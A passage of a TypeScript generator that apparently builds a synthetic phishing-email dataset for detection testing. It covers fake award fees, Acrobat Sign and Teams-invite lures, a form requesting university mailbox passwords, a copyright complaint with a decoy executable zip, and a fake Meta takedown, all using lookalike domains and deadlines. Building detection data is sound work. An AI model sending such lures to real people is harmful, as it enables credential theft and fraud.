  const link = `https://${host}/award-nomination/?ecategory=Awards&rcategory=Awardee&ref=${token(r, 8)}`;
  const fee = pick(r, [299, 399, 490]);
  return {
    from: {
      name: pick(r, ['International Research Awards', 'Global Scientist Awards Committee']),
      address: `awards@${host}`,
    },
    to: [addr(to)],
    subject: pick(r, [
      `Congratulations ${drPrefix(to)} ${to.last} - Nominated for Best Researcher Award 2026`,
      'Invitation: International Scientist Awards on Engineering, Science and Medicine',
      'Your Research Excellence Award - confirm nomination',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Dear ${drPrefix(to)} ${to.first} ${to.last},`,
        blocks: [
          `Greetings! Based on your outstanding publications on ${pick(r, RESEARCH_TOPICS)}, you have been shortlisted for the **Best Researcher Award 2026** by our international scientific committee.`,
          `Awardees receive a certificate, a memento and a feature in our Global Scientist Directory. The award ceremony will be held in ${pick(r, ['Paris', 'Singapore', 'Dubai'])} (virtual participation possible).`,
          `To confirm your nomination, complete the form and pay the processing fee of USD ${fee} by ${longDate(addDays(date, 5), 'en')}.`,
          { button: 'Confirm nomination', href: link },
        ],
        closing: 'Warm regards,',
        signature: ['Awards Committee', host],
        footer: ['To unsubscribe, reply with UNSUBSCRIBE.'],
      },
      0.3,
      0.1,
    ),
    via: pick(r, ['sendgrid', 'vps'] as const),
    auth: 'lookalike',
  };
});

const pdfLinkLure = T('pdf-link-lure', 'acrobat-sign-pdf-link', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const sender = pick(r, [STAFF.hr, STAFF.chancellor, STAFF.bursar, STAFF.rectorOffice]);
  const doc = pick(r, [
    'Porozumienie płacowe 2026',
    'Regulamin premiowania pracowników',
    'Aneks do umowy o pracę',
    'Zarządzenie Rektora - zmiany w wynagrodzeniach',
  ]);
  const link = pick(r, [
    compromisedSite(r, 'acrobat'),
    freeHost(r, 'acrobat-sign-view'),
    `https://${chars(r, 8)}.${pick(r, ['ru', 'cfd', 'sbs', 'icu'])}/sign/${token(r, 10)}`,
  ]);
  const pdf = onePagePdf(
    [
      'Adobe Acrobat Sign',
      ascii(doc),
      `Nadawca: ${ascii(sender.name)}`,
      'Dokument jest zabezpieczony. Aby go wyswietlic i podpisac, kliknij ponizej.',
      '>> WYSWIETL DOKUMENT <<',
    ],
    { link },
  );
  const hijacked = pick(r, HIJACKED);
  return {
    from: {
      name: `${sender.name} (Adobe Acrobat Sign)`,
      address: `${pick(r, ['biuro', 'info', 'office'])}@${hijacked}`,
    },
    to: [addr(to)],
    subject: pick(r, [
      `${doc} - do podpisu`,
      `Prośba o podpis: ${doc}`,
      `${sender.name} wysłał(a) Ci dokument`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: 'Dzień dobry,',
        blocks: [
          `${sender.name} udostępnił(a) dokument „${doc}” do przejrzenia i podpisania. Dokument znajduje się w załączniku.`,
        ],
        signature: ['Adobe Acrobat Sign'],
      },
      0.3,
      0.4,
    ),
    attachments: [{ filename: `${ascii(doc).replace(/ /g, '_')}.pdf`, type: MIME.pdf, content: pdf }],
    via: pick(r, ['vps', 'webmail-pl'] as const),
    auth: 'pass',
  };
});

const calendarInvite = T('calendar-invite', 'appraisal-meeting-ics-link', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const look = pick(r, ORG_LOOKALIKES);
  const organizer = `kadry@${look}`;
  const link = pick(r, [
    `https://teams.${look}/meet/${token(r, 12)}`,
    freeHost(r, 'teams-meeting-join'),
    compromisedSite(r, 'meet'),
  ]);
  const when = addDays(date, int(r, 1, 4));
  const summary = pick(r, [
    'Ocena okresowa - omówienie wyników',
    'Zmiany w regulaminie wynagradzania - spotkanie informacyjne',
    'Annual appraisal - results',
    'Restrukturyzacja działu - spotkanie obowiązkowe',
  ]);
  const ics = invitation({
    uid: `${hex(r, 16)}@${look}`,
    organizer,
    attendee: to.email,
    summary,
    description: `Przed spotkaniem prosimy o zapoznanie się z dokumentami i potwierdzenie obecności: ${link}`,
    location: `Microsoft Teams: ${link}`,
    start: `${isoDay(when).replace(/-/g, '')}T${pick(r, ['0800', '0930', '1100', '1300'])}00Z`,
  });
  return {
    from: { name: 'Dział Kadr', address: organizer },
    to: [addr(to)],
    subject: `Zaproszenie: ${summary} @ ${plDate(when)}`,
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        blocks: [
          `**${summary}**`,
          {
            facts: [
              ['Kiedy', `${plDate(when)}`],
              ['Gdzie', 'Microsoft Teams'],
              ['Organizator', 'Dział Kadr'],
            ],
          },
          `Przed spotkaniem prosimy o zapoznanie się z dokumentami: [Otwórz materiały](${link})`,
        ],
      },
      0.2,
      0.4,
    ),
    attachments: [{ filename: 'invite.ics', type: MIME.ics, content: ics }],
    via: pick(r, ['m365', 'vps'] as const),
    auth: 'lookalike',
  };
});

const formAbuse = T('legit-service-abuse', 'google-microsoft-form-credentials', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const toStudent = chance(r, 0.5);
  const to = toStudent ? { name: s.name, address: s.email } : someone(r);
  const google = chance(r, 0.6);
  const link = google
    ? `https://docs.google.com/forms/d/e/1FAIpQL${token(r, 50)}/viewform?usp=sf_link`
    : `https://forms.office.com/r/${token(r, 10)}`;
  const compromised = chance(r, 0.5);
  const sender = student(r);
  const n = plName(r);
  return {
    from: compromised
      ? { name: pick(r, ['Dział Spraw Studenckich', 'Dziekanat', sender.name]), address: sender.email }
      : { name: 'Dział Kadr i Płac UW', address: freemail(r, n, ['gmail.com']) },
    to: [to],
    toHeader: chance(r, 0.5) ? 'undisclosed-recipients:;' : undefined,
    subject: toStudent
      ? pick(r, [
          'Aktualizacja danych do wypłaty stypendium - formularz',
          'Ankieta weryfikacyjna konta studenta',
          'Wybory do samorządu - weryfikacja uprawnień',
        ])
      : pick(r, [
          'Aktualizacja danych pracowniczych - formularz obowiązkowy',
          'Weryfikacja kont pracowników - formularz',
        ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: 'Dzień dobry,',
        blocks: [
          'w związku z aktualizacją systemu prosimy o wypełnienie krótkiego formularza weryfikacyjnego. Do weryfikacji konieczne jest podanie loginu i hasła do poczty uczelnianej.',
          `Formularz: [${link}](${link})`,
          `Termin: ${plDate(addDays(date, 2))}. Brak odpowiedzi skutkuje zawieszeniem ${toStudent ? 'wypłat' : 'dostępu do systemów'}.`,
        ],
        closing: 'Pozdrawiamy',
      },
      0.2,
      0.5,
    ),
    via: compromised ? 'm365' : 'gmail',
    auth: compromised ? 'pass' : 'freemail',
  };
});

const copyrightComplaint = T('copyright-complaint', 'photo-copyright-evidence', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.rectorOffice, STAFF.deanHum, STAFF.deanPhys, STAFF.library, STAFF.helpdesk]);
  const photographer = chance(r, 0.6) ? plName(r) : intlName(r);
  const pl = chance(r, 0.6);
  const zip = chance(r, 0.4);
  const link = pick(r, [
    freeHost(r, 'dowody-naruszenia'),
    `https://drive.${pick(r, ['google-docs-share.com', 'files-view.online'])}/d/${token(r, 20)}`,
    shortLink(r),
  ]);
  const page = pick(r, ['strona wydziału', 'profil uczelni na Facebooku', 'aktualności uczelni']);
  return {
    from: {
      name: photographer.full,
      address: freemail(r, photographer, ['gmail.com', 'outlook.com', 'proton.me']),
    },
    to: [addr(to)],
    subject: pl
      ? pick(r, [
          'Naruszenie praw autorskich - zdjęcia na stronie uczelni',
          'Wezwanie do usunięcia naruszenia',
          'Bezprawne wykorzystanie moich zdjęć',
        ])
      : pick(r, ['Copyright infringement notice', 'Unauthorized use of my images on your website']),
    date,
    text: pl
      ? `Dzień dobry,\n\njestem fotografem i autorem zdjęć, które bez mojej zgody zostały opublikowane (${page}). Nie ${fem(photographer.first) ? 'udzielałam' : 'udzielałem'} żadnej licencji.\n\n${zip ? 'Zestawienie zdjęć i linków, wraz z oryginałami, przesyłam w załączniku.' : `Zestawienie naruszeń i oryginały zdjęć: ${link}`}\n\nW przypadku braku usunięcia zdjęć i zapłaty wynagrodzenia w ciągu 5 dni sprawa zostanie skierowana do kancelarii.\n\n${photographer.full}`
      : `Hello,\n\nI am a professional photographer and the author of images that have been published on your ${page === 'strona wydziału' ? 'faculty website' : 'university pages'} without my permission.\n\n${zip ? 'Please find attached the list of the images and the originals.' : `The list of the infringing images and the originals: ${link}`}\n\nIf the images are not removed and compensated within 5 days, I will pass the matter to my lawyer.\n\n${photographer.full}`,
    attachments: zip
      ? [
          {
            filename: pl ? 'Dowody_naruszenia.zip' : 'Evidence.zip',
            type: MIME.zip,
            content: zipOf(
              pick(r, ['Zdjecia_oryginaly.pdf.lnk', 'Evidence_images.exe', 'Lista_naruszen.js']),
            ),
          },
        ]
      : undefined,
  };
});

const socialMediaTakedown = T('social-media-takedown', 'meta-page-violation-appeal', (r) => {
  const date = mailDate(r);
  const to = pick(r, [STAFF.rectorOffice, STAFF.intl, STAFF.students, STAFF.deanHum]);
  const host = pick(r, ['meta-business-support.com', 'facebook-appeal-center.net', 'meta-policy-review.org']);
  const link = pick(r, [
    `https://${host}/appeal/${digits(r, 15)}`,
    freeHost(r, 'meta-appeal'),
    `https://www.facebook.com.${host}/help/appeal`,
  ]);
  const page = pick(r, [
    'Uniwersytet Wiślany',
    'Erasmus+ Uniwersytet Wiślany',
    'Wydział Humanistyczny UW',
    'Samorząd Studentów UW',
  ]);
  return {
    from: { name: 'Meta Business Support', address: pick(r, [`no-reply@${host}`, `policy@${host}`]) },
    to: [addr(to)],
    subject: pick(r, [
      `Your page "${page}" is scheduled for deletion`,
      'Meta: Trademark infringement report on your page',
      'Final warning: page restricted',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        brand: { name: 'Meta', color: '#0866ff' },
        blocks: [
          `Your page **${page}** has been reported for violating our Community Standards on intellectual property (case #${digits(r, 12)}).`,
          `If you believe this is a mistake, you can submit an appeal within 24 hours. Otherwise the page will be permanently deleted on ${longDate(addDays(date, 1), 'en')}.`,
          { button: 'Submit appeal', href: link },
        ],
        footer: ['Meta Platforms, Inc., 1 Meta Way, Menlo Park, CA 94025'],
      },
      0.4,
      0.1,
    ),
    via: pick(r, ['vps', 'gmail'] as const),
    auth: 'lookalike',
  };
});

export const PHISHING_22: readonly Template[] = [
  predatoryJournal,
  fakeConference,
  conferenceHousing,
  editorialLogin,
  apcInvoiceFraud,
  htmlLoginAttachment,
  orcidCredential,
  grantPortal,
  euLogin,
  studentSuspension,
  scholarshipScam,
  accommodationScam,
  payrollDiversion,
  rectorGiftCard,
  execWire,
  ksefInvoice,
  parcelInpost,
  postalCustoms,
  epuapNotice,
  mobywatelNotice,
  passwordExpiry,
  deviceCode,
  oauthConsent,
  sharepointShare,
  docusignFake,
  qrMfa,
  qrPdf,
  callbackAntivirus,
  bankCallback,
  threadHijackInvoice,
  protectedArchive,
  htmlSmuggling,
  diskImageLure,
  lnkArchive,
  scriptArchive,
  macroWorkbookLure,
  macroDocumentLure,
  onenoteLure,
  sextortion,
  fakeFine,
  taxRefund,
  bankCredential,
  marketplaceAccount,
  meetingInvite,
  svgAttachment,
  mailboxQuota,
  internalItSpoof,
  libraryAccount,
  erasmusGrant,
  vendorBankChange,
  moneyMule,
  investmentScam,
  fileShareCollab,
  quarantineRelease,
  fakeAward,
  pdfLinkLure,
  calendarInvite,
  formAbuse,
  copyrightComplaint,
  socialMediaTakedown,
];

const ALL = [...PHISHING_22, ...LOCAL_PHISHING_22];

export const UNSEEN_22_KINDS: readonly string[] = [...new Set(ALL.map((t) => t.kind))];
export const UNSEEN_22_TEMPLATE_COUNT: number = ALL.length;

export async function unseenPhishing22(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return runTemplates(ALL, perTemplate, seed, seededRandom);
}
